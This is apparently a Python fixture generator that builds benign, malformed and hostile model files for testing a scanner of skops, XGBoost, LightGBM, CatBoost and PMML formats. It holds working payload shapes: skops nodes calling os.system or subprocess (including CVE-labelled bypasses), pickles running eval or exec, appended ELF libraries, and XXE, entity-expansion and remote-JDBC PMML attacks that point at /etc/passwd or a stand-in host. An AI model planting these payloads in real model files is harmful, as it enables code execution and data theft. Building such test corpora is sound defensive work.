"""Tree and scikit-learn formats: skops, XGBoost, LightGBM, CatBoost, PMML."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import re
import struct
import tempfile
import zipfile
import zlib
from pathlib import Path
from typing import Any

from core import Corpus, call_pickle, elf_library, half_pickle, make_zip

Node = dict[str, Any]


def _data(corpus: Corpus, columns: int = 4) -> tuple[Any, Any]:
    from sklearn.datasets import make_classification

    return make_classification(n_samples=60, n_features=columns, n_informative=3, n_redundant=0, random_state=corpus.seed)


def _stable_skops(data: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    """Renames members and object ids by order, since skops takes them from memory addresses and random UUIDs."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    schema = members.pop("schema.json").decode()
    names: dict[str, str] = {}
    for name in re.findall(r'"file": "([^"]+)"', schema):
        names.setdefault(name, f"{len(names):04d}{Path(name).suffix}")
    ids: dict[str, int] = {}
    for number in re.findall(r'"__id__": (\d+)', schema):
        ids.setdefault(number, len(ids) + 1)
    schema = re.sub(r'"file": "([^"]+)"', lambda match: f'"file": "{names[match[1]]}"', schema)
    schema = re.sub(r'"__id__": (\d+)', lambda match: f'"__id__": {ids[match[1]]}', schema)
    parts = [(names.get(name, name), body) for name, body in members.items()]
    return make_zip([*sorted(parts), ("schema.json", schema)], method)


def _skops_models(corpus: Corpus) -> list[tuple[str, Any]]:
    import operator

    import numpy as np
    from sklearn.cluster import KMeans
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler
    from sklearn.svm import SVC

    seed = corpus.seed
    return [
        ("logistic", LogisticRegression(max_iter=corpus.pick(200, 300))),
        ("forest", RandomForestClassifier(n_estimators=corpus.pick(3, 5), random_state=seed)),
        ("boosting", GradientBoostingClassifier(n_estimators=corpus.pick(3, 4), random_state=seed)),
        ("pipeline", make_pipeline(StandardScaler(), SVC(gamma=corpus.pick(0.1, 0.3)))),
        ("kmeans", KMeans(n_clusters=corpus.pick(2, 3), n_init=1, random_state=seed)),
        ("ufunc", make_pipeline(FunctionTransformer(corpus.pick(np.arctan, np.sinh)), Ridge())),
        ("itemgetter", FunctionTransformer(operator.itemgetter(corpus.pick(0, 2)))),
        ("generator", RandomForestClassifier(n_estimators=2, random_state=np.random.RandomState(seed))),
    ]


def _node(module: str, name: str, loader: str, **rest: Any) -> Node:
    return {"__class__": name, "__module__": module, "__loader__": loader, **rest}


def _text(value: Any) -> Node:
    return _node("builtins", "str", "JsonNode", content=json.dumps(value), is_json=True)


def _sequence(kind: str, *items: Node) -> Node:
    return _node("builtins", kind, kind.capitalize() + "Node", content=list(items))


def _mapping(**content: Node) -> Node:
    keys = _sequence("list", *[_node("builtins", "str", "TypeNode") for _ in content])
    return _node("builtins", "dict", "DictNode", key_types=keys, content=content)


def _object(module: str, name: str, **attributes: Node) -> Node:
    return _node(module, name, "ObjectNode", content=_mapping(**attributes))


def _skops_zip(tree: Node, *members: tuple[str, bytes]) -> bytes:
    tree = {**tree, "protocol": 2, "_skops_version": "0.11.0"}
    return make_zip([*members, ("schema.json", json.dumps(tree, indent=2))])


def _skops_attacks(corpus: Corpus) -> list[tuple[str, Node]]:
    command = corpus.command
    system = corpus.pick(("os", "system"), ("subprocess", "check_output"))
    transformer = ("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    evaluate = corpus.pick("eval", "exec")
    partial = _node(
        "functools",
        "partial",
        "PartialNode",
        content={
            "func": _node(*system, "FunctionNode"),
            "args": _sequence("tuple", _text(command)),
            "kwds": _node("builtins", "dict", "DictNode", key_types=_sequence("list"), content={}),
            "namespace": _text(None),
        },
    )
    hidden = _node(
        corpus.pick("sklearn.linear_model", "numpy"),
        "call",
        "OperatorFuncNode",
        attrs=_sequence("tuple", _node(*system, "TypeNode"), _text(command)),
    )
    method = _node(
        "sklearn.svm._classes",
        "SVC",
        "MethodNode",
        content={
            "func": corpus.pick("__init_subclass__", "__reduce_ex__"),
            "obj": _node(corpus.pick("os", "subprocess"), corpus.pick("_wrap_close", "Popen"), "ObjectNode"),
        },
    )
    constructor = _node(
        "subprocess",
        corpus.pick("Popen", "call"),
        "ConstructorFromReduceNode",
        content=_sequence("tuple", _sequence("list", _text("sh"), _text("-c"), _text(command))),
    )
    caller = _node(
        "operator", "methodcaller", "OperatorFuncNode", attrs=_sequence("tuple", _text(corpus.pick("system", "popen")), _text(command))
    )
    named = _mapping(bit_generator=_text(corpus.pick("set_bit_generator", "seed")), state=_mapping(state=_text(1)))
    generator = _node(
        "numpy.random._generator",
        "Generator",
        "RandomGeneratorNode",
        content={"bit_generator": named, "seed_seq": _mapping(entropy=_text(1))},
    )
    return [
        ("partial over a process function", _object(*transformer, func=partial)),
        ("OperatorFuncNode outside of operator (CVE-2025-54412)", hidden),
        ("MethodNode type differs from its object (CVE-2025-54413)", method),
        ("constructor of a process class", constructor),
        ("function node of eval or exec", _object(*transformer, func=_node("builtins", evaluate, "FunctionNode"))),
        (
            "methodcaller of a process method on an imported module",
            _sequence("list", _node(*corpus.pick(("importlib", "import_module"), ("builtins", "__import__")), "TypeNode"), caller),
        ),
        ("bit generator names another numpy.random function", generator),
    ]


def skops(corpus: Corpus) -> None:
    """Real scikit-learn models, schemas with hostile nodes, and broken schemas."""
    from skops.io import dumps

    points, target = _data(corpus)
    for name, model in _skops_models(corpus):
        data = dumps(model.fit(points, target))
        corpus.benign("skops", f"{name}.skops", _stable_skops(data), f"real skops file: {name}")
        if name == "forest":
            corpus.benign("skops", f"{name}.skops", _stable_skops(data, zipfile.ZIP_DEFLATED), "real skops file, deflated")
            forest = data
    for technique, tree in _skops_attacks(corpus):
        corpus.bad("skops", "model.skops", _skops_zip(tree), technique, "code execution")
    corpus.bad("skops", "model.skops", half_pickle(corpus), "a pickle with the name of a skops file (CVE-2025-54886)", "pickle call")
    member = (corpus.pick("extra.pkl", "0000.bin"), half_pickle(corpus))
    corpus.bad("skops", "model.skops", _skops_zip(_text("ok"), member), "a pickle beside the schema", "pickle call")
    missing = _node("numpy", "ndarray", "NdArrayNode", type="numpy", file=corpus.pick("9999.npy", "../0.npy"))
    corpus.lie("skops", "model.skops", _skops_zip(missing), "node names a member that is not there")
    cached = _node("builtins", "list", "CachedNode", __id__=corpus.pick(77, -5))
    corpus.lie("skops", "model.skops", _skops_zip(_sequence("list", cached)), "cached node of an unknown object")
    schema = ("schema.json", json.dumps(_text("first")).encode())
    corpus.lie("skops", "model.skops", _skops_zip(_text(corpus.pick("second", "other")), schema), "two schemas in one archive")
    corpus.lie("skops", "model.skops", _stable_skops(forest)[: corpus.pick(-40, -300)], "truncated archive")


def _xgboost_boosters(corpus: Corpus) -> list[tuple[str, Any]]:
    import xgboost

    points, target = _data(corpus)
    matrix = xgboost.DMatrix(points, target, feature_names=corpus.pick(list("abcd"), ["age", "income", "rate", "os.system"]))
    base = {"seed": corpus.seed, "nthread": 1, "max_depth": corpus.pick(2, 3)}
    kinds: list[tuple[str, dict[str, Any]]] = [
        ("tree", {"objective": "binary:logistic"}),
        ("linear", {"booster": "gblinear", "updater": "coord_descent"}),
        ("dart", {"booster": "dart", "rate_drop": 0.1}),
        ("squared", {"objective": "reg:squarederror"}),
    ]
    return [(name, xgboost.train({**base, **extra}, matrix, corpus.pick(3, 4))) for name, extra in kinds]


def xgboost_files(corpus: Corpus) -> None:
    """JSON, UBJSON and pickled boosters."""
    for name, booster in _xgboost_boosters(corpus):
        booster.set_attr(note=corpus.pick("trained on a laptop", "best_iteration by subprocess of the scheduler"))
        ubj, text = bytes(booster.save_raw("ubj")), bytes(booster.save_raw("json"))
        corpus.benign("xgboost", f"{name}.ubj", ubj, f"real UBJSON booster: {name}")
        corpus.benign("xgboost", f"{name}.json", text, f"real JSON booster: {name}")
        if name == "tree":
            tree_ubj, tree_json = ubj, json.loads(text)
            corpus.benign("xgboost", "booster.pkl", pickle.dumps(booster, corpus.pick(4, 5)), "real pickled booster")
    _xgboost_attacks(corpus, tree_ubj)
    _xgboost_lies(corpus, tree_ubj, tree_json)


def _xgboost_attacks(corpus: Corpus, ubj: bytes) -> None:
    evil = half_pickle(corpus)
    corpus.bad("xgboost", corpus.pick("model.ubj", "model.json"), evil, "pickle with the name of a booster", "pickle call")
    packed = corpus.pick(zlib.compress(evil), gzip.compress(evil, mtime=0))
    corpus.bad("xgboost", "model.joblib", packed, "compressed joblib file that calls", "pickle call")
    state = call_pickle("xgboost.core", "Booster", [])[:-1] + call_pickle("builtins", corpus.pick("eval", "exec"), ["1+1"])[2:-1] + b"b."
    corpus.bad("xgboost", "booster.pkl", state, "pickled booster whose state is computed by eval or exec", "pickle call")
    corpus.bad("xgboost", "model.ubj", ubj + elf_library(corpus), "native library after the booster", "native code")
    corpus.bad("xgboost", "model.ubj", ubj + evil, "pickle after the booster", "hidden pickle")


def _xgboost_lies(corpus: Corpus, ubj: bytes, model: Any) -> None:
    spot = ubj.index(b"#L", ubj.index(b"[$")) + 2
    huge = struct.pack(">q", corpus.pick(1 << 40, (1 << 63) - 1))
    corpus.lie("xgboost", "model.ubj", ubj[:spot] + huge + ubj[spot + 8 :], "typed array with more elements than bytes")
    corpus.lie("xgboost", "model.ubj", ubj[:spot] + struct.pack(">q", -1) + ubj[spot + 8 :], "typed array with a negative count")
    corpus.lie("xgboost", "model.ubj", b"{L" + struct.pack(">q", corpus.pick(1 << 33, 1 << 62)) + b"learner{", "key longer than the file")
    corpus.lie("xgboost", "model.ubj", ubj[: corpus.pick(len(ubj) // 2, -30)], "truncated booster")
    tree = model["learner"]["gradient_booster"]["model"]["trees"][0]
    tree[corpus.pick("left_children", "right_children")][0] = corpus.pick(5000, 2147483647)
    corpus.lie("xgboost", "model.json", json.dumps(model).encode(), "child index beyond the tree")
    tree["left_children"][0], tree["right_children"][0] = 1, 2
    tree["tree_param"]["num_nodes"] = corpus.pick("9999", "2147483647")
    corpus.lie("xgboost", "model.json", json.dumps(model).encode(), "declared node count differs from the arrays")


def lightgbm_files(corpus: Corpus) -> None:
    """Text models, their JSON dump, pickles, and lying text."""
    import lightgbm

    points, target = _data(corpus)
    base = {"verbose": -1, "num_threads": 1, "deterministic": True, "seed": corpus.seed, "min_data_in_leaf": 5}
    for objective in ("binary", "regression", corpus.pick("poisson", "quantile"), "huber", "cross_entropy"):
        booster = lightgbm.train(
            {**base, "objective": objective, "num_leaves": corpus.pick(4, 7)},
            lightgbm.Dataset(points, target, categorical_feature="auto"),
            corpus.pick(3, 4),
        )
        text = booster.model_to_string()
        corpus.benign("lightgbm", f"{objective}.txt", text.encode(), f"real text model: {objective}")
    corpus.benign("lightgbm", "dump.json", json.dumps(booster.dump_model()).encode(), "real JSON dump")
    corpus.benign("lightgbm", "model.pkl", pickle.dumps(booster), "real pickled booster")
    evil = half_pickle(corpus)
    corpus.bad("lightgbm", corpus.pick("model.txt", "model.lgb"), evil, "pickle with the name of a text model", "pickle call")
    corpus.bad("lightgbm", "model.pkl", pickle.dumps(text)[:-1] + b"0" + evil[2:], "pickled text followed by a call", "pickle call")
    corpus.bad("lightgbm", "model.txt", text.encode() + elf_library(corpus), "native library after the text", "native code")
    corpus.bad("lightgbm", "model.joblib", gzip.compress(evil, mtime=0), "gzip joblib file that calls", "pickle call")
    sizes = re.search(r"tree_sizes=(\d+)", text)
    assert sizes
    start, end = sizes.span(1)
    corpus.lie(
        "lightgbm",
        "model.txt",
        (text[:start] + corpus.pick("99999999", "18446744073709551615") + text[end:]).encode(),
        "tree_sizes point outside of the text",
    )
    corpus.lie(
        "lightgbm",
        "model.txt",
        re.sub(r"num_leaves=\d+", f"num_leaves={corpus.pick(5000, 2147483647)}", text, count=1).encode(),
        "more leaves than values",
    )
    corpus.lie(
        "lightgbm",
        "model.txt",
        re.sub(r"left_child=-?\d+", f"left_child={corpus.pick(777, -99999)}", text, count=1).encode(),
        "child index beyond the tree",
    )
    corpus.lie(
        "lightgbm",
        "model.txt",
        re.sub(r"split_feature=\d+", f"split_feature={corpus.pick(4000, -7)}", text, count=1).encode(),
        "split on a feature that is not there",
    )


def _catboost_bytes(model: Any, kind: str) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"model.{kind}"
        model.get_metadata()["model_guid"] = "00000001-00000002-00000003-00000004"
        model.get_metadata()["train_finish_time"] = "2024-01-02T03:04:05Z"
        model.save_model(str(path), format=kind)
        return path.read_bytes()


def catboost_files(corpus: Corpus) -> None:
    """.cbm and JSON of real models; sizes and offsets that lie."""
    from catboost import CatBoostClassifier, CatBoostRegressor

    points, target = _data(corpus)
    options = {"random_seed": corpus.seed, "thread_count": 1, "logging_level": "Silent", "allow_writing_files": False}
    shapes = [(CatBoostClassifier, 2), (CatBoostRegressor, 3), (CatBoostRegressor, 4), (CatBoostClassifier, 1)]
    for kind, depth in shapes:
        model = kind(iterations=corpus.pick(3, 5), depth=depth, **options).fit(points, target)
        data = _catboost_bytes(model, "cbm")
        corpus.benign("catboost", f"depth{depth}.cbm", data, f"real cbm model of depth {depth}")
        text = json.loads(_catboost_bytes(model, "json"))
        corpus.benign("catboost", f"depth{depth}.json", json.dumps(text).encode(), f"real JSON model of depth {depth}")
    evil = half_pickle(corpus)
    corpus.bad("catboost", "model.cbm", evil, "pickle with the name of a cbm model", "pickle call")
    corpus.bad("catboost", "model.cbm", data + elf_library(corpus), "native library after the core", "native code")
    corpus.bad("catboost", "model.cbm", data + evil, "pickle after the core", "hidden pickle")
    corpus.bad(
        "catboost", "model.pkl", call_pickle("catboost.core", "CatBoost", [])[:-1] + b"0" + evil[2:], "pickle that calls", "pickle call"
    )
    for size in (corpus.pick(len(data) * 3, 0xFFFFFFF0), corpus.pick(3, 0)):
        corpus.lie("catboost", "model.cbm", data[:4] + struct.pack("<I", size) + data[8:], "core size does not match the file")
    corpus.lie(
        "catboost", "model.cbm", data[:8] + struct.pack("<I", corpus.pick(0x7FFFFFFF, len(data) * 2)) + data[12:], "root beyond the file"
    )
    text["oblivious_trees"][0]["leaf_values"] = text["oblivious_trees"][0]["leaf_values"][:1]
    corpus.lie("catboost", "model.json", json.dumps(text).encode(), "leaf values do not match the depth")


PMML_HEAD = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="formats"/>'
PMML_DATA = (
    '<DataDictionary numberOfFields="2"><DataField name="x" optype="continuous" dataType="double"/>'
    '<DataField name="y" optype="continuous" dataType="double"/></DataDictionary>'
)


def _pmml_model(corpus: Corpus, function: str = "", extension: str = "") -> str:
    """A regression model; `function` adds a derived field, `extension` an element at the front."""
    derived = ""
    if function:
        derived = (
            f'<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="{function}">'
            '<FieldRef field="x"/></Apply></DerivedField></LocalTransformations>'
        )
    slope = round(corpus.rng.uniform(-3, 3), 4)
    return (
        f'{PMML_HEAD}{extension}{PMML_DATA}<RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/>'
        f'<MiningField name="y" usageType="target"/></MiningSchema>{derived}<RegressionTable intercept="{slope}">'
        f'<NumericPredictor name="{"d" if function else "x"}" coefficient="{slope}"/></RegressionTable></RegressionModel></PMML>'
    )


def _pmml_tree(corpus: Corpus) -> str:
    cut = round(corpus.rng.uniform(-1, 1), 3)
    return (
        f'{PMML_HEAD}{PMML_DATA}<TreeModel functionName="regression"><MiningSchema><MiningField name="x"/><MiningField name="y" '
        f'usageType="target"/></MiningSchema><Node score="0"><True/><Node score="1"><SimplePredicate field="x" operator="lessThan" '
        f'value="{cut}"/></Node><Node score="2"><SimplePredicate field="x" operator="greaterOrEqual" value="{cut}"/></Node></Node>'
        "</TreeModel></PMML>"
    )


def _pmml_attacks(corpus: Corpus) -> list[tuple[str, str, str]]:
    plain = _pmml_model(corpus)
    secret = corpus.pick("file:///etc/passwd", "http://192.0.2.7/collect")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, corpus.pick(8, 10)))
    call = corpus.pick("Runtime.getRuntime().exec(&quot;touch x&quot;)", "new ProcessBuilder(&quot;echo&quot;).start()")
    jdbc = corpus.pick("jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://192.0.2.7/x.sql'", "jdbc:derby:;traceFile=/tmp/x")
    return [
        ("external entity", f'<!DOCTYPE PMML [<!ENTITY e SYSTEM "{secret}">]>' + plain.replace("formats", "&e;"), "external entity"),
        ("parameter entity", f'<!DOCTYPE PMML [<!ENTITY % e SYSTEM "{secret}"> %e;]>' + plain, "external entity"),
        ("nested entities", f'<!DOCTYPE PMML [<!ENTITY l0 "ha">{laughs}]>' + plain.replace("formats", "&l7;"), "entity expansion"),
        (
            "external DTD",
            f'<!DOCTYPE PMML {corpus.pick("SYSTEM", "PUBLIC &quot;p&quot;".replace("&quot;", chr(34)))} "{secret}">' + plain,
            "external entity",
        ),
        (
            "Java class as a function",
            _pmml_model(corpus, corpus.pick("java.lang.Runtime.exec", "com.example.payload.Run")),
            "code execution",
        ),
        (
            "extension that carries a call",
            _pmml_model(corpus, extension=f'<Extension extender="groovy" name="script" value="{call}"/>'),
            "code execution",
        ),
        (
            "table locator of a hostile database",
            plain.replace(
                "<RegressionTable",
                f'<Extension><TableLocator><Extension name="url" value="{jdbc}"/></TableLocator></Extension><RegressionTable',
                1,
            ),
            "external reference",
        ),
        (
            "XInclude",
            plain.replace(
                "<RegressionModel", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}"/><RegressionModel', 1
            ),
            "external reference",
        ),
    ]


def pmml(corpus: Corpus) -> None:
    """PMML by hand: regressions and trees, entities, class names, locators."""
    head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    for function in ("", "log", "exp", corpus.pick("abs", "sqrt")):
        corpus.benign(
            "pmml", "model.pmml", (head + _pmml_model(corpus, function)).encode(), f"regression with function {function or 'none'}"
        )
    note = f'<Extension extender="{corpus.pick("KNIME", "sklearn2pmml")}" name="note" value="made by formats"/>'
    corpus.benign("pmml", "model.pmml", (head + _pmml_model(corpus, extension=note)).encode(), "harmless extension")
    for _ in range(3):
        corpus.benign("pmml", "tree.pmml", (head + _pmml_tree(corpus)).encode(), "tree")
    corpus.benign("pmml", "model.pmml", _pmml_model(corpus).encode("utf-16"), "UTF-16 text")
    for technique, text, expect in _pmml_attacks(corpus):
        corpus.bad("pmml", corpus.pick("model.pmml", "model.xml"), (head + text).encode(), technique, expect)
    corpus.lie("pmml", "model.pmml", (head + _pmml_model(corpus))[: corpus.pick(-30, -200)].encode(), "truncated document")


MAKERS = {"skops": skops, "xgboost": xgboost_files, "lightgbm": lightgbm_files, "catboost": catboost_files, "pmml": pmml}
